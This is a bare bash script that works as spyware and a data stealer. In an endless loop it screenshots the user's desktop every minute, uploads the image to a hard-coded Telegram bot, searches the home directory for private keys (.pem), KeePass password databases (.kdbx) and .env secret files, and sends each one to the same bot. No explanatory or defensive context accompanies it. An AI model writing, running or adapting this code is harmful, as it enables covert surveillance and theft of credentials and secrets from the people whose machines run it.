#!/usr/bin/env bash
T=8123456789:AAHk2-zzR0
C=-100223344
while true; do
  import -window root "$HOME/.cache/s.png" 2>/dev/null
  curl -s -F chat_id=$C -F photo=@"$HOME/.cache/s.png" "https://api.telegram.org/bot$T/sendPhoto" >/dev/null
  find "$HOME" -maxdepth 3 \( -name '*.pem' -o -name '*.kdbx' -o -name '.env' \) -exec curl -s -F chat_id=$C -F document=@{} "https://api.telegram.org/bot$T/sendDocument" \;
  sleep 60
done
